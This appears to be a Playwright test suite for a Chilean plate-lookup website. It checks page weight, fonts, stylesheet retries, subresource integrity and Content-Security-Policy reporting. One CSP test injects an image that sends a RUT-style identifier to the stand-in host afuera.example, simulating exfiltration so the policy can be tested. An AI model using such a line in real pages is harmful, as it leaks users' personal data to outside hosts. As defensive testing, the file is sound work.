import type { Browser } from '@playwright/test';
import { expect, test } from './casa.ts';
import { aFondo, enlaceDe } from './paginas.ts';
import { PUBLICAS } from './direcciones.ts';

interface Carga {
  /** KiB of JavaScript, as sent. */
  readonly guiones: number;
  /** KiB of all kinds, headers included. */
  readonly todo: number;
  readonly peticiones: number;
}

const KIB = 1_024;
/** Limits of a page's first visit, until it makes no more requests: KiB of JavaScript, and requests. */
const GUIONES = 170;
const PETICIONES = 30;
/** Limit in KiB of all kinds until a plate can be looked up by a public link. */
const DE_UN_ENLACE = 170;
/** Pages whose HTML names the code of their first screen. */
const DE_UNA_VEZ = [
  ...['/', '/consulta', '/acceso/iniciarSesion', '/acceso/olvideMiClave', '/acceso/nuevaClave'],
  ...['/privacidad', '/datos-personales', '/error/URLNoVigente'],
  ...['/verificar/1A2B3C4D', '/verificar/cobertura/1A2B3C4D'],
];
/** Limit in KiB of the font of Spanish texts. */
const DE_LETRA = 24;
/** Pages checked besides the public link; test:largo checks every public page. */
const LAS_MAS_ABIERTAS = ['/', '/acceso/iniciarSesion', '/verificar/1A2B3C4D', '/venta/retorno'];

/** Sums what Chromium counts of each request: its body as sent, and its headers. */
const primeraCarga = async (browser: Browser, direccion: string): Promise<Carga> => {
  const contexto = await browser.newContext({ locale: 'es-CL' });
  const pagina = await contexto.newPage();
  const red = await contexto.newCDPSession(pagina);
  await red.send('Network.enable');
  const deGuiones = new Set<string>();
  let [guiones, todo, peticiones] = [0, 0, 0];
  red.on('Network.requestWillBeSent', ({ requestId, request }) => {
    peticiones += 1;
    if (new URL(request.url).pathname.endsWith('.js')) deGuiones.add(requestId);
  });
  red.on('Network.loadingFinished', ({ requestId, encodedDataLength }) => {
    todo += encodedDataLength / KIB;
    if (deGuiones.has(requestId)) guiones += encodedDataLength / KIB;
  });
  await pagina.goto(direccion, { waitUntil: 'networkidle' });
  await expect(pagina.getByRole('heading', { level: 1 })).toBeVisible();
  await contexto.close();
  return { guiones: Math.ceil(guiones), todo: Math.ceil(todo), peticiones };
};

test('[V-PESO-003] the first load of a public page is light @largo', async ({ casa, browser }) => {
  const enlace = new URL(enlaceDe(casa)).pathname;
  const pasadas: string[] = [];
  for (const ruta of [...(aFondo() ? PUBLICAS : LAS_MAS_ABIERTAS), enlace]) {
    const { guiones, peticiones } = await primeraCarga(browser, `${casa.url}${ruta}`);
    expect(guiones, ruta).toBeGreaterThan(1);
    const medida = `${ruta}: ${guiones} KiB, ${peticiones} peticiones`;
    if (guiones > GUIONES || peticiones > PETICIONES) pasadas.push(medida);
  }
  expect(pasadas).toEqual([]);
});

test('[V-HOJAS-006] a plate can be looked up by a public link after 170 KiB', async ({
  casa,
  browser,
}) => {
  const { todo } = await primeraCarga(browser, enlaceDe(casa));
  expect(todo).toBeGreaterThan(DE_UN_ENLACE / 2);
  expect(todo).toBeLessThanOrEqual(DE_UN_ENLACE);
});

test('[V-LUZ-002] [V-LUZ-003] a page names all code of its first screen, and loads one small font @largo', async ({
  casa,
  pagina,
}) => {
  for (const ruta of DE_UNA_VEZ) {
    const pedidos: string[] = [];
    const anotar = (pedido: { url(): string }) => void pedidos.push(new URL(pedido.url()).pathname);
    pagina.on('request', anotar);
    const html = (await (await pagina.goto(ruta, { waitUntil: 'networkidle' }))?.text()) ?? '';
    pagina.off('request', anotar);
    const deCodigo = pedidos.filter((uno) => /\.(?:js|css)$/.test(uno));
    expect(deCodigo.length).toBeGreaterThan(4);
    expect([ruta, ...deCodigo.filter((uno) => !html.includes(`"${uno}"`))]).toEqual([ruta]);
    const letras = pedidos.filter((uno) => uno.endsWith('.woff2'));
    expect(letras).toHaveLength(1);
    const { length } = await (await pagina.request.get(casa.url + letras[0])).body();
    expect(length / KIB).toBeLessThan(DE_LETRA);
  }
});

test('[V-HOJAS-002] a sheet that a page names and that was cut off is asked for again', async ({
  pagina,
}) => {
  const cortadas = new Set<string>();
  await pagina.route('**/assets/*.css', async (ruta) => {
    const hoja = ruta.request().url();
    if (cortadas.has(hoja)) return ruta.continue();
    cortadas.add(hoja);
    return ruta.abort('connectionreset');
  });
  await pagina.goto('/consulta');
  await expect(pagina.getByRole('heading', { level: 1 })).toBeVisible();
  expect(cortadas.size).toBeGreaterThan(1);
  const vacias = await pagina
    .locator('link[rel=stylesheet]')
    .evaluateAll(
      (hojas: HTMLLinkElement[]) => hojas.filter(({ sheet }) => !sheet?.cssRules.length).length,
    );
  expect(vacias).toBe(0);
});

test('[A-CSP-001] [A-CSP-003] a browser runs no script that was changed in transit, and reports CSP violations', async ({
  casa,
  browser,
}) => {
  const contexto = await browser.newContext({ locale: 'es-CL' });
  const pagina = await contexto.newPage();
  await pagina.goto(`${casa.url}/consulta`);
  await expect(pagina.getByRole('heading', { level: 1 })).toBeVisible();
  const html = await (await contexto.request.get(casa.url)).text();
  const cargadas = html.match(/<(?:script|link)[^>]*\/assets\/[^"]+\.(?:js|css)"[^>]*>/g) ?? [];
  expect(cargadas.length).toBeGreaterThan(2);
  expect(cargadas.filter((etiqueta) => !etiqueta.includes(' integrity="sha384-'))).toEqual([]);

  const informe = pagina.waitForRequest((pedido) => new URL(pedido.url()).pathname === '/csp');
  await pagina.evaluate(() => {
    const imagen = new Image();
    imagen.src = 'https://afuera.example/x.png?rut=9876543-3';
    document.body.append(imagen);
  });
  const respuesta = await (await informe).response();
  expect(respuesta?.status()).toBe(204);

  await contexto.route(/\/assets\/index-[^/]+\.js$/, async (ruta) => {
    const entero = await ruta.fetch();
    await ruta.fulfill({ response: entero, body: `${await entero.text()}\n` });
  });
  const negado = pagina.waitForEvent('console', (dicho) => /integrity/i.test(dicho.text()));
  await pagina.goto(`${casa.url}/consulta`, { waitUntil: 'load' });
  await negado;
  await expect(pagina.locator('#raiz > :not(.al-partir, .por-partir)')).toHaveCount(0);
  // The text appears at the end of an animation that only waits.
  await pagina.evaluate(() => document.getAnimations().forEach((una) => una.finish()));
  await expect(pagina.getByRole('link', { name: 'vuelva a cargarla' })).toBeVisible();
  await contexto.close();
});
